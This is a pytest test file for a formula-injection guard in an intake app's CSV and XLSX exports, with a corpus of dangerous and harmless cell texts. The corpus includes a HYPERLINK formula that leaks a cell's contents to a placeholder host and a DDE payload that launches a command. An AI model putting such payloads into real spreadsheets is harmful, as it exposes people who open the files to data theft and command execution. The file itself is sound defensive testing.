"""Formula injection (issue 17): one corpus, the one guard, both exports. A text a spreadsheet
could run starts with an apostrophe in the CSV and is a text cell in the .xlsx, never a
formula, also behind spaces, invisible characters or in fullwidth forms."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from intake_app.sync.centre.csv_export import export_csv
from intake_app.sync.centre.formula_guard import csv_cell, looks_like_formula
from intake_app.sync.centre.importer import import_bundle
from intake_app.sync.centre.vault import Centre
from intake_app.sync.centre.xlsx_export import export_xlsx
from tests.helpers.bundles import Laptop
from tests.helpers.centre import REGISTRY, register
from tests.helpers.documents import make_document

DANGEROUS = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\u2060=1+1",  # word joiner
    "\ufeff=1+1",  # byte-order mark
    "\u200e@SUM(A1)",  # left-to-right mark
    " \u200b\u2060\ufeff-1",
    "＝1+1",  # fullwidth
    "＋1",
    "－1",
    "＠SUM(A1)",
    ' ＝HYPERLINK("x")',
    "\u200b＠x",
    "﹦1",  # small form
    "\u22121",  # minus sign
    "=",
    "-",
    "#N/A",  # not a formula, but openpyxl would write it as an error cell
]
DANGEROUS_LONG = ["\r=1+1", "\r\n=1+1", "First line\n", "\n=1+1"]  # need a free text
HARMLESS = ["Amina", "a=b", "1-2", "e-mail@example.invalid", "'quoted", "", "  ", "٣٤"]


@pytest.mark.parametrize("text", [*DANGEROUS[:-1], "\r=1", "\n=1"])
def test_the_guard_knows_every_dangerous_start(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", [*HARMLESS, "#N/A", "First line\n"])
def test_the_guard_leaves_harmless_text_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_cell(text) == text


@pytest.fixture
def corpus_centre(centre: Centre, tmp_path: Path, laptop: Laptop) -> dict[str, str]:
    """One interview per text of the corpus (as its alias, or as its account's text); returns
    {interview id: the text}."""
    register(centre, laptop)
    texts: dict[str, str] = {}
    documents = []
    for text in DANGEROUS + HARMLESS:
        document = make_document(alias=text or None)
        documents.append(document)
        texts[document["id"]] = text
    for text in DANGEROUS_LONG:
        document = make_document(account=text)
        documents.append(document)
        texts[document["id"]] = text
    written = laptop.bundle(tmp_path / "out", centre, records=documents)
    assert import_bundle(centre, written.path).delivered
    return texts


def _column(record_id: str, texts: dict[str, str]) -> str:
    return "alias" if texts[record_id] not in DANGEROUS_LONG else "account"


def test_the_csv_guards_the_whole_corpus(
    centre: Centre, corpus_centre: dict[str, str], tmp_path: Path
) -> None:
    out = tmp_path / "corpus.csv"
    export_csv(centre.vault, REGISTRY, out, "en")
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert len(rows) == len(corpus_centre)
    for row in rows:
        text = corpus_centre[row["id"]]
        cell = row[_column(row["id"], corpus_centre)]
        if looks_like_formula(text):
            assert cell == "'" + text, repr(text)
        else:
            assert cell == text, repr(text)


def test_the_spreadsheet_never_holds_a_formula_and_keeps_every_text_as_it_is(
    centre: Centre, corpus_centre: dict[str, str], tmp_path: Path
) -> None:
    out = tmp_path / "corpus.xlsx"
    export_xlsx(centre.vault, REGISTRY, out, "en")
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), name
                assert 't="e"' not in xml and 't="str"' not in xml
    sheet = openpyxl.load_workbook(out).worksheets[0]
    codes = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    checked = 0
    for row in sheet.iter_rows(min_row=3):
        cells = dict(zip(codes, row, strict=True))
        record_id = cells["id"].value
        text = corpus_centre[record_id]
        cell = cells[_column(record_id, corpus_centre)]
        if not text:
            assert cell.value is None
            continue
        as_kept = text.replace("\r\n", "\n").replace("\r", "\n")  # a cell's line breaks
        assert cell.data_type == "s" and cell.value == as_kept, repr(text)
        assert cell.quotePrefix == looks_like_formula(text), repr(text)
        checked += 1
    assert checked == len(corpus_centre) - 1
